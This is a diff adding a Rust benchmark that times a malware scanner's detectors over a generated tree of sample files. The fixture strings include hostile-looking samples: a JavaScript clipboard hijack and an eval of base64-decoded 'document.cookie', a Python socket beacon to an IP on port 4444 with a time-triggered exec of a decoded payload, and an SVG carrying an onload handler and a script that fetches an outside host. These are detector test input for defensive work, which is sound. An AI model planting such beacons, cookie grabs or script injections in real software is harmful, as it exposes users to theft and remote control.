@@ -0,0 +1,85 @@
+//! Detector throughput on a generated fixture tree
+//!
+//! Run with `cargo bench -p firewall-core`. Each default skill is timed on
+//! its own over the same tree and reported in bytes/sec, followed by a full
+//! multi-skill scan, so a slow new pattern shows up against its detector.
+
+use criterion::{criterion_group, criterion_main, Criterion, Throughput};
+use firewall_core::{create_default_registry, Scanner};
+use serde_json::json;
+use std::fs;
+use std::path::Path;
+
+/// Copies of each fixture file in the generated tree
+const COPIES: usize = 20;
+
+/// Mostly benign source with a few lines every detector has to look at
+const FIXTURES: &[(&str, &str)] = &[
+    (
+        "app.js",
+        "const api = 'https://api.example.com/v1';\n\
+         function render(items) { return items.map(i => `<li>${i}</li>`).join(''); }\n\
+         document.addEventListener('copy', e => e.clipboardData.setData('text', addr));\n\
+         eval(atob('ZG9jdW1lbnQuY29va2ll'));\n",
+    ),
+    (
+        "tool.py",
+        "import base64, socket, time\n\
+         def beacon():\n    s = socket.socket(); s.connect(('45.33.32.156', 4444))\n\
+         if time.time() > 1767225600:\n    exec(base64.b64decode(payload))\n",
+    ),
+    (
+        "logo.svg",
+        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\">\
+         <rect width=\"10\" height=\"10\"/><script>fetch('//x.ru')</script></svg>\n",
+    ),
+    (
+        "notes.txt",
+        "Meeting notes: ship the release on Friday, update the changelog, \
+         rotate the on-call schedule and review the dashboard alerts.\n",
+    ),
+];
+
+/// Write the fixture tree and return its total size in bytes
+fn generate(root: &Path) -> u64 {
+    let mut total = 0;
+    for copy in 0..COPIES {
+        let dir = root.join(format!("pkg{}", copy));
+        fs::create_dir_all(&dir).unwrap();
+        for (name, body) in FIXTURES {
+            // Pad each file so throughput isn't dominated by per-file overhead
+            let content = body.repeat(40);
+            total += content.len() as u64;
+            fs::write(dir.join(name), content).unwrap();
+        }
+    }
+    total
+}
+
+fn bench_detectors(c: &mut Criterion) {
+    let dir = tempfile::tempdir().unwrap();
+    let bytes = generate(dir.path());
+    let path = dir.path().to_str().unwrap();
+    let params = json!({ "path": path, "recursive": true });
+
+    let registry = create_default_registry();
+    let mut group = c.benchmark_group("detector");
+    group.throughput(Throughput::Bytes(bytes));
+    group.sample_size(10);
+    for name in registry.list() {
+        group.bench_function(name, |b| {
+            b.iter(|| registry.invoke(name, params.clone()).unwrap())
+        });
+    }
+    group.finish();
+
+    let scanner = Scanner::builder().with_default_skills().build();
+    let mut group = c.benchmark_group("scan");
+    group.throughput(Throughput::Bytes(bytes));
+    group.sample_size(10);
+    group.bench_function("all_skills", |b| b.iter(|| scanner.scan(path).unwrap()));
+    group.finish();
+}
+
+criterion_group!(benches, bench_detectors);
+criterion_main!(benches);